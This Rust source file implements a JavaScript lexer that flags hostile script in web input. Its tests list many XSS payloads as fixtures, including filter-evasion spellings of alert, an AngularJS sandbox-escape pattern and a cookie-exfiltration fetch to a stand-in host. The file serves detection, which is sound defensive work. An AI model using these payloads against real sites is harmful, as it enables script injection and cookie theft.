//! A small JavaScript lexer and the judgement of its tokens: does this
//! snippet do something hostile? Used wherever script runs: event-handler
//! values, `javascript:` URLs, `<script>` bodies, and the code after a
//! string or attribute break-out.
//!
//! Hostile means a call of a function that shows, runs or sends something
//! (`alert(1)`, `eval(...)`, `fetch(...)`), however the callee is spelled:
//! `alert`1``, `(alert)(1)`, `top['al'+'ert'](1)`, `a=alert,a(1)`,
//! `alert.call(null,1)`, `[].constructor.constructor(...)()`; or a read or
//! write of a sensitive property (`document.cookie`, `location=...`,
//! `x.innerHTML=...`, `navigation.navigate`); or a global's member named
//! in escapes (`self["\x24"]`).

use std::ops::Range;
use std::sync::LazyLock;

use crate::search::Keywords;
use aho_corasick::MatchKind;

use crate::search;

/// How much evidence a context needs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Mode {
    /// The text may be prose: only a hostile call or sink counts.
    Strict,
    /// The text is known to be script (a handler, a `javascript:` URL): any
    /// call or assignment counts.
    Loose,
    /// The text is the whole value, with no break-out before it: only
    /// callees no prose calls (`alert(`, not `open(` or `print(`).
    Bare,
}

/// Callees that are also English words or common helpers: hostile after a
/// break-out, not on their own.
const WORDY: &[&[u8]] = &[
    b"open",
    b"print",
    b"write",
    b"writeln",
    b"import",
    b"unescape",
    b"decodeuricomponent",
    b"btoa",
    b"msgbox",
];

/// Callees that display, evaluate, load or send (lower-case; JS is case
/// sensitive but upper-cased payloads still signal intent).
const CALLABLE: &[&[u8]] = &[
    b"alert",
    b"prompt",
    b"confirm",
    b"eval",
    b"settimeout",
    b"setinterval",
    b"setimmediate",
    b"execscript",
    b"fetch",
    b"import",
    b"importscripts",
    b"atob",
    b"btoa",
    b"globaleval",
    b"fromcharcode",
    b"constructor",
    b"write",
    b"writeln",
    b"open",
    b"print",
    b"sendbeacon",
    b"xmlhttprequest",
    b"msgbox",
    b"showmodaldialog",
    b"insertadjacenthtml",
    b"getscript",
    b"unescape",
    b"decodeuricomponent",
];

/// Objects whose computed members (`top[...]`, `window[...]`) reach every
/// global function.
const GLOBALS: &[&[u8]] = &[
    b"window",
    b"top",
    b"self",
    b"parent",
    b"frames",
    b"globalthis",
    b"this",
    b"content",
    b"opener",
];

/// Properties that leak or navigate when read or written on `document`,
/// `window` and friends.
const SENSITIVE: &[&[u8]] = &[b"cookie", b"domain", b"location", b"write", b"writeln"];

/// Members of `document` that read or rewrite the page: a value that is a
/// script using them is DOM manipulation.
const DOCUMENT: &[&[u8]] = &[
    b"body",
    b"head",
    b"documentelement",
    b"createelement",
    b"queryselector",
    b"queryselectorall",
    b"getelementbyid",
    b"getelementsbytagname",
    b"getelementsbyname",
    b"forms",
    b"url",
    b"referrer",
    b"execcommand",
];

/// Words followed by `(` that are syntax, not calls.
const KEYWORDS: &[&[u8]] = &[
    b"if",
    b"for",
    b"while",
    b"switch",
    b"void",
    b"typeof",
    b"return",
    b"catch",
    b"function",
    b"with",
    b"in",
    b"of",
    b"new",
    b"delete",
    b"do",
    b"else",
];

/// Whether a word can start or carry a hostile finding: a callee, a global
/// object, or a sensitive property. Callers use it to look for script only
/// near such words.
pub(crate) fn is_trigger(word: &[u8]) -> bool {
    is_callable(word)
        || is_in(GLOBALS, word)
        || is_in(SENSITIVE, word)
        || is_in(
            &[
                b"document",
                b"innerhtml",
                b"outerhtml",
                b"srcdoc",
                b"navigation",
            ],
            word,
        )
}

/// Whether the identifier starting at `src[at]` is one of [`WORDY`]'s
/// callees.
pub(crate) fn wordy_at(src: &[u8], at: usize) -> bool {
    let rest = src.get(at..).unwrap_or_default();
    let end = rest
        .iter()
        .position(|b| !b.is_ascii_alphanumeric())
        .unwrap_or(rest.len());
    is_in(WORDY, &rest[..end])
}

fn is_in(set: &[&[u8]], name: &[u8]) -> bool {
    set.iter().any(|s| name.eq_ignore_ascii_case(s))
}

/// A callee: `Function` must keep its capital (`function(` is a keyword).
fn is_callable(name: &[u8]) -> bool {
    name == b"Function" || is_in(CALLABLE, name)
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Ident,
    Str,
    Template,
    Num,
    Regex,
    Punct(u8),
}

#[derive(Clone, Debug)]
struct Tok {
    kind: Kind,
    span: Range<usize>,
}

/// Lexes `src[pos..]` one token at a time, skipping whitespace and comments.
struct Lexer<'a> {
    src: &'a [u8],
    pos: usize,
    /// Whether a `/` here starts a regular expression (after an operator).
    regex_ok: bool,
}

fn ident_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'$' || b >= 0x80
}

impl Iterator for Lexer<'_> {
    type Item = Tok;

    fn next(&mut self) -> Option<Tok> {
        let src = self.src;
        let mut p = self.pos;
        loop {
            while p < src.len() && (src[p] <= b' ') {
                p += 1;
            }
            if src[p..].starts_with(b"//") || src[p..].starts_with(b"<!--") {
                p = memchr::memchr(b'\n', &src[p..]).map_or(src.len(), |i| p + i);
            } else if src[p..].starts_with(b"/*") {
                p = search::find(&src[p + 2..], b"*/").map_or(src.len(), |i| p + 2 + i + 2);
            } else {
                break;
            }
        }
        if p >= src.len() {
            self.pos = p;
            return None;
        }
        let start = p;
        let b = src[p];
        let kind = if ident_byte(b) && !b.is_ascii_digit() {
            while p < src.len() && ident_byte(src[p]) {
                p += 1;
            }
            Kind::Ident
        } else if b.is_ascii_digit() {
            while p < src.len() && (ident_byte(src[p]) || src[p] == b'.') {
                p += 1;
            }
            Kind::Num
        } else if b == b'"' || b == b'\'' || b == b'`' {
            p += 1;
            while p < src.len() && src[p] != b {
                if src[p] == b'\\' {
                    p += 1;
                } else if src[p] == b'\n' && b != b'`' {
                    break;
                }
                p += 1;
            }
            p = (p + 1).min(src.len());
            if b == b'`' {
                Kind::Template
            } else {
                Kind::Str
            }
        } else if b == b'/' && self.regex_ok {
            p += 1;
            while p < src.len() && src[p] != b'/' && src[p] != b'\n' {
                if src[p] == b'\\' {
                    p += 1;
                }
                p += 1;
            }
            p = (p + 1).min(src.len());
            while p < src.len() && src[p].is_ascii_alphabetic() {
                p += 1;
            }
            Kind::Regex
        } else {
            p += 1;
            Kind::Punct(b)
        };
        self.pos = p;
        self.regex_ok = matches!(kind, Kind::Punct(c) if c != b')' && c != b']' && c != b'}');
        Some(Tok {
            kind,
            span: start..p,
        })
    }
}

/// The content of a string token, without quotes or escapes, bounded.
fn str_content(src: &[u8], span: &Range<usize>, out: &mut Vec<u8>) {
    let inner = &src[span.start + 1..span.end.max(span.start + 1)];
    let inner = match inner.last() {
        Some(&q) if q == src[span.start] => &inner[..inner.len() - 1],
        _ => inner,
    };
    let mut esc = false;
    for &b in inner {
        if out.len() >= 32 {
            return;
        }
        if b == b'\\' && !esc {
            esc = true;
            continue;
        }
        esc = false;
        out.push(b);
    }
}

/// `x.constructor.prototype.charAt=[].join`: a write to a member of a
/// prototype, which changes a built-in for all code after it. Inside a
/// template expression this is the AngularJS sandbox escape (breaking
/// `charAt` lets `$eval` compile any code); a template that shows data
/// writes no prototypes.
pub(crate) fn prototype_write(src: &[u8], range: Range<usize>) -> Option<Range<usize>> {
    let end = range.end.min(src.len());
    let src = &src[..end];
    let lexer = Lexer {
        src,
        pos: range.start.min(end),
        regex_ok: true,
    };
    // Tokens matched of `prototype` `.` name `=`, and where it began.
    let mut seen = 0;
    let mut start = 0;
    for tok in lexer {
        let text = &src[tok.span.clone()];
        seen = match (seen, tok.kind) {
            (_, Kind::Ident) if text == b"prototype" => {
                start = tok.span.start;
                1
            }
            (1, Kind::Punct(b'.')) => 2,
            (2, Kind::Ident) => 3,
            (3, Kind::Punct(b'=')) => 4,
            (4, Kind::Punct(b'=')) => 0,
            (4, _) => return Some(start..tok.span.end),
            _ => 0,
        };
    }
    None
}

/// Whether a string token holds a `\x` or `\u` escape.
fn has_escape(text: &[u8]) -> bool {
    text.windows(2)
        .any(|w| w[0] == b'\\' && matches!(w[1], b'x' | b'u'))
}

/// A callee waiting to see whether it is called.
#[derive(Clone, Debug)]
struct Pending {
    start: usize,
    /// Preceded by `=`, `,`, `(`, ... : taken as a value (`a=alert`).
    as_value: bool,
}

/// Finds hostile script in `src[range]`; returns the evidence span.
pub(crate) fn hostile(src: &[u8], range: Range<usize>, mode: Mode) -> Option<Range<usize>> {
    let end = range.end.min(src.len());
    let text = &src[range.start.min(end)..end];
    // Lexing costs tens of instructions a byte; on a large text (a file
    // upload, a long comment) one search for what a finding needs is cheaper.
    if mode != Mode::Loose && text.len() >= PREFILTER_FROM && !may_be_hostile(text) {
        return None;
    }
    scan(src, range, mode, 2)
}

/// Text length from which [`hostile`] first checks [`may_be_hostile`].
const PREFILTER_FROM: usize = 64;

/// Whether [`scan`] outside [`Mode::Loose`] (where any call counts) can
/// find anything in `text`: every finding starts at an identifier that is a
/// callee, a global or a sensitive name (`document`, `location`, ...), all
/// matched ignoring ASCII case, so the word is in the text; but for a
/// callee spelled in strings inside brackets (`top['al'+'ert']`), which
/// needs `[` and a quote. Template literals are scanned for the same.
fn may_be_hostile(text: &[u8]) -> bool {
    static TRIGGERS: LazyLock<Keywords> = LazyLock::new(|| {
        let extra: &[&[u8]] = &[
            b"function",
            b"document",
            b"location",
            b"innerhtml",
            b"outerhtml",
            b"srcdoc",
            b"navigation",
            b".call`",
            b".apply`",
        ];
        Keywords::new(
            CALLABLE.iter().chain(GLOBALS).chain(extra),
            true,
            MatchKind::LeftmostFirst,
        )
    });
    let bracketed_string =
        memchr::memchr(b'[', text).is_some() && memchr::memchr2(b'\'', b'"', text).is_some();
    bracketed_string || TRIGGERS.is_match(text)
}

/// [`hostile`], entering template literals at most `depth` deep.
fn scan(src: &[u8], range: Range<usize>, mode: Mode, depth: u8) -> Option<Range<usize>> {
    let end = range.end.min(src.len());
    let src = &src[..end];
    let lexer = Lexer {
        src,
        pos: range.start.min(end),
        regex_ok: true,
    };
    let mut pending: Option<Pending> = None;
    // The token before the current one, and the one before that.
    let mut prev: Option<Tok> = None;
    let mut prev2: Option<Tok> = None;
    // Folding of `'al'+'ert'` inside `[...]`.
    let mut folded: Vec<u8> = Vec::new();
    // (start, only strings and `+`)
    let mut bracket: Option<(usize, bool)> = None;
    // A string inside `[...]` spelled with `\x`/`\u` escapes.
    let mut escaped_index = false;
    // `navigation.navigate` seen at this offset; `true` once `(` followed.
    let mut navigate: Option<(usize, bool)> = None;
    let mut window_index = false;
    let mut global_index = false;
    let mut member_of: Option<Range<usize>> = None;
    let mut sens: Option<(usize, bool)> = None;
    // `.call` or `.apply` just read, and where its chain began.
    let mut call_member: Option<usize> = None;
    // The last global (`window`, `top`) stood where an argument goes:
    // `[1].map(top.alert)` passes its member as a value.
    let mut global_as_value = false;

    for tok in lexer {
        let text = &src[tok.span.clone()];
        // `x.sort.call`...``, `Reflect.apply.call`...``: a tagged template
        // on `call` or `apply` calls a function without parentheses, the
        // way to reach any callee when `(` is filtered; code that calls a
        // method names the method and passes arguments in parentheses.
        if let Some(s) = call_member.take() {
            if tok.kind == Kind::Template {
                return Some(s..tok.span.end);
            }
        }
        if tok.kind == Kind::Ident
            && is_in(&[b"call", b"apply"], text)
            && prev.as_ref().is_some_and(|p| p.kind == Kind::Punct(b'.'))
        {
            call_member = Some(
                prev2
                    .as_ref()
                    .map_or(tok.span.start, |p| p.span.start.min(tok.span.start)),
            );
        }
        // A sensitive property followed by `=` (not `==`): navigation or
        // markup injection.
        match sens.take() {
            Some((s, false)) if tok.kind == Kind::Punct(b'=') => sens = Some((s, true)),
            Some((s, true)) if tok.kind != Kind::Punct(b'=') => return Some(s..tok.span.end),
            _ => {}
        }
        // `navigation.navigate` (the Navigation API) goes wherever
        // `location=` goes, `javascript:` URLs included; but React
        // Navigation's `navigation.navigate('Home')` is everyday app code.
        // So it counts taken as a value (`${navigation.navigate}`, a
        // callback) or given a script URL or `name` (the window's name, the
        // classic carrier of a payload from another site).
        if let Some((s, called)) = navigate.take() {
            let hostile = match tok.kind {
                Kind::Punct(b'(') if !called => {
                    navigate = Some((s, true));
                    false
                }
                Kind::Punct(b',' | b')' | b'}' | b';' | b']') | Kind::Template if !called => true,
                Kind::Str | Kind::Template if called => search::contains_ci(text, b"javascript:"),
                Kind::Ident if called => text == b"name",
                _ => false,
            };
            if hostile {
                return Some(s..tok.span.end);
            }
        }
        if let Some(pd) = pending.clone() {
            match tok.kind {
                // A whole value is prose more often than script: there the
                // call must be written like code, `confirm(` not `confirm (`.
                Kind::Punct(b'(') | Kind::Template
                    if mode == Mode::Bare
                        && prev.as_ref().is_some_and(|p| p.span.end != tok.span.start) =>
                {
                    pending = None
                }
                Kind::Punct(b'(') | Kind::Template => return Some(pd.start..tok.span.end),
                Kind::Punct(b')') => {}
                Kind::Punct(b'.') => {}
                // `alert?.(1)`, `top?.alert?.(1)`: optional chaining calls
                // as `(` does.
                Kind::Punct(b'?') if src.get(tok.span.end) == Some(&b'.') => {}
                // `self['$']['globalEval'](...)`: a chain of computed members.
                Kind::Punct(b'[') => {}
                Kind::Ident if is_in(&[b"call", b"apply", b"bind"], text) => {}
                Kind::Punct(b',' | b';' | b']' | b'}') if pd.as_value => {
                    return Some(pd.start..tok.span.end)
                }
                _ => pending = None,
            }
        }
        match tok.kind {
            Kind::Ident => {
                let after_dot = prev.as_ref().is_some_and(|p| p.kind == Kind::Punct(b'.'));
                let value_place = prev.as_ref().is_some_and(|p| {
                    matches!(
                        p.kind,
                        Kind::Punct(b'=' | b',' | b'(' | b':' | b'?' | b'|' | b'&' | b'{')
                    )
                });
                let mut global_member = false;
                if let Some(obj) = member_of.take() {
                    let obj_name = &src[obj.clone()];
                    global_member = after_dot && global_as_value && is_in(GLOBALS, obj_name);
                    // `location.assign(...)`, `location.replace(...)`
                    // navigate as `location=` does; a whole value naming
                    // them is more often advice than script.
                    if after_dot
                        && mode != Mode::Bare
                        && obj_name.eq_ignore_ascii_case(b"location")
                        && is_in(&[b"assign", b"replace"], text)
                    {
                        return Some(obj.start..tok.span.end);
                    }
                    let document = obj_name.eq_ignore_ascii_case(b"document");
                    if after_dot
                        && ((document || is_in(GLOBALS, obj_name)) && is_in(SENSITIVE, text)
                            || document && is_in(DOCUMENT, text))
                    {
                        return Some(obj.start..tok.span.end);
                    }
                    if after_dot
                        && obj_name.eq_ignore_ascii_case(b"navigation")
                        && text.eq_ignore_ascii_case(b"navigate")
                    {
                        navigate = Some((obj.start, false));
                    }
                }
                // Only as an argument: `x = window.setTimeout` aliases a
                // helper, `[1].map(top.alert)` hands the callee over.
                global_as_value = !after_dot
                    && is_in(GLOBALS, text)
                    && prev
                        .as_ref()
                        .is_some_and(|p| matches!(p.kind, Kind::Punct(b'(' | b',')));
                if is_callable(text) && !(mode == Mode::Bare && is_in(WORDY, text)) {
                    let as_value = value_place && !after_dot || global_member;
                    pending = Some(Pending {
                        start: tok.span.start,
                        as_value,
                    });
                } else if mode == Mode::Loose && !is_in(KEYWORDS, text) {
                    pending = Some(Pending {
                        start: tok.span.start,
                        as_value: false,
                    });
                }
                let location_href = text.eq_ignore_ascii_case(b"href")
                    && after_dot
                    && prev2
                        .as_ref()
                        .is_some_and(|p| src[p.span.clone()].eq_ignore_ascii_case(b"location"));
                if location_href
                    || is_in(&[b"location", b"innerhtml", b"outerhtml", b"srcdoc"], text)
                {
                    sens = Some((tok.span.start, false));
                }
            }
            Kind::Punct(b'.') => {
                if let Some(p) = &prev {
                    if p.kind == Kind::Ident {
                        member_of = Some(p.span.clone());
                    }
                }
            }
            Kind::Template if depth > 0 => {
                // `${alert}` and calls inside a template literal run too.
                // A whole value in backticks is Markdown's code span or
                // fence as often: there, too, only callees no prose calls.
                let inner =
                    tok.span.start + 1..tok.span.end.saturating_sub(1).max(tok.span.start + 1);
                let inner_mode = if mode == Mode::Bare {
                    Mode::Bare
                } else {
                    Mode::Strict
                };
                if let Some(found) = scan(src, inner, inner_mode, depth - 1) {
                    return Some(found);
                }
            }
            Kind::Punct(b'[') => {
                global_index = pending.is_some()
                    || prev.as_ref().is_some_and(|p| {
                        p.kind == Kind::Ident && is_in(GLOBALS, &src[p.span.clone()])
                    });
                // `this[...]` and `content[...]` are globals only sometimes.
                window_index = prev.as_ref().is_some_and(|p| {
                    let name = &src[p.span.clone()];
                    p.kind == Kind::Ident
                        && is_in(GLOBALS, name)
                        && !is_in(&[b"this", b"content"], name)
                });
                bracket = Some((tok.span.start, true));
                escaped_index = false;
                folded.clear();
            }
            Kind::Str => {
                let joined = prev.as_ref().is_some_and(|p| p.kind == Kind::Punct(b'+'))
                    && prev2.as_ref().is_some_and(|p| p.kind == Kind::Str);
                if !joined {
                    folded.clear();
                }
                escaped_index |= bracket.is_some() && has_escape(text);
                str_content(src, &tok.span, &mut folded);
            }
            Kind::Punct(b'+') => {}
            Kind::Punct(b']') => {
                if let Some((start, pure)) = bracket.take() {
                    if pure && (is_callable(&folded) || is_in(SENSITIVE, &folded)) {
                        if is_in(SENSITIVE, &folded) {
                            return Some(start..tok.span.end);
                        }
                        pending = Some(Pending {
                            start,
                            as_value: false,
                        });
                    } else if window_index && pure && escaped_index {
                        // `self["\x24"]`, `top["\u0061lert"]`: a global's
                        // member named in escapes is hidden from a reader,
                        // which no page needs for a name it knows.
                        return Some(start..tok.span.end);
                    } else if global_index {
                        // `top[x](1)`: whatever the index computes, calling
                        // a global's member runs a global function.
                        pending = Some(Pending {
                            start,
                            as_value: false,
                        });
                    }
                }
                global_index = false;
            }
            _ => {}
        }
        if let Some((_, pure)) = &mut bracket {
            if !matches!(tok.kind, Kind::Str | Kind::Punct(b'+' | b'[')) {
                *pure = false;
            }
        }
        prev2 = prev.take();
        prev = Some(tok);
    }
    // The end of the snippet also ends a reference: `onerror=alert`.
    if let Some(pd) = pending {
        if pd.as_value {
            return Some(pd.start..end);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strict(s: &str) -> bool {
        hostile(s.as_bytes(), 0..s.len(), Mode::Strict).is_some()
    }
    fn loose(s: &str) -> bool {
        hostile(s.as_bytes(), 0..s.len(), Mode::Loose).is_some()
    }

    #[test]
    fn hostile_calls() {
        for s in [
            "alert(1)",
            "alert`1`",
            "(alert)(1)",
            "top['al'+'ert'](1)",
            "window['alert'](1)",
            "a=alert,a(1)",
            "alert.call(null,1)",
            "[].constructor.constructor('x')()",
            "document.cookie",
            "location='//evil'",
            "x.innerHTML='<b>'",
            "eval(atob('YQ=='))",
            "new Function('x')()",
            "setTimeout('x',1)",
            "top[8680439..toString(30)](1)",
            "onerror=alert;throw 1",
            "[1].map(alert)",
            "alert(/x/)",
            "/**/alert(1)",
            "String.fromCharCode(88)",
            "import('//evil')",
            "fetch('//x?'+document.cookie)",
            "self['$']['globalEval']('alert(1)')",
            "[].sort.call`${alert}1337`",
            "document /*x*/ . cookie",
            "document.body.appendChild(x)",
            "self[\"\\x24\"]",
            "top['\\u0061lert']",
            "navigation.navigate('javascript:alert(1)')",
            "Reflect.apply.call`${navigation.navigate}${navigation}${[name]}`",
            "Reflect.sort.call``",
            "x.map.apply`${1}`",
            "alert?.(1)",
            "window?.alert?.(document.domain)",
            "[1].map(window.alert)",
            "[0].forEach(top.eval)",
            "location.replace(name)",
            "location.assign('javascript:alert(1)')",
        ] {
            assert!(strict(s), "{s}");
        }
    }

    #[test]
    fn the_prefilter_lets_findings_through() {
        // Each finding of `hostile_calls`, deep in a text long enough to be
        // prefiltered, must still be found.
        let filler = "2024-05-01 12:00:00 INFO served in 12 ms, status 200\n".repeat(4);
        for s in [
            "alert(1)",
            "top['al'+'ert'](1)",
            // No trigger word: the callee is only in the strings.
            "x['al'+'ert'](1)",
            "DOCUMENT.cookie",
            "self[\"\\x24\"]",
            "Function('x')()",
            "navigation.navigate('javascript:alert(1)')",
            "x.innerHTML='<b>'",
        ] {
            let text = format!("{filler}{s}");
            assert!(may_be_hostile(text.as_bytes()), "{s}");
            assert!(strict(&text), "{s}");
        }
    }

    #[test]
    fn the_prefilter_rejects_log_text() {
        let text = "2024-05-01 12:00:00 INFO request served in 12 ms, status 200, bytes 5120\n";
        assert!(!may_be_hostile(text.repeat(100).as_bytes()));
        // Brackets alone, or quotes alone, are no bracketed string.
        assert!(!may_be_hostile(
            b"[2024-05-01] served [12 ms] status 200, id 42"
        ));
        assert!(!may_be_hostile(
            b"it's served in 12 ms, status \"200\", bytes 5120"
        ));
    }

    #[test]
    fn prototype_writes() {
        let w = |s: &str| prototype_write(s.as_bytes(), 0..s.len()).is_some();
        assert!(w("'a'.constructor.prototype.charAt=[].join"));
        assert!(w("toString.constructor.prototype.toString=x.call"));
        assert!(!w("a.prototype.b == c"));
        assert!(!w("a.prototype.b === c"));
        assert!(!w("prototype=1"));
    }

    #[test]
    fn prose_is_not_hostile() {
        for s in [
            "please alert the team",
            "open the door",
            "if (a) b",
            "the location is Paris",
            "a == location",
            "x = 1",
            "function(a, b)",
            "I print things",
            "self[\"name\"]",
            "this[\"caf\\u00e9\"]",
            "navigation.title",
            "navigation.navigate('Details')",
            "() => navigation.navigate('Profile', { id: 1 })",
            "navigation.navigate(route.name)",
            "navigation.navigate",
            "the navigation to navigate",
            "alert ? 1 : 2",
            "items.map(window.format)",
            "const h = window.requestAnimationFrame || window.setTimeout;",
            "confirm?.5:1",
        ] {
            assert!(!strict(s), "{s}");
        }
        assert!(!loose("void(0)"));
        assert!(!loose(";"));
        assert!(loose("history.back()"));
        assert!(loose("foo(1)"));
    }
}
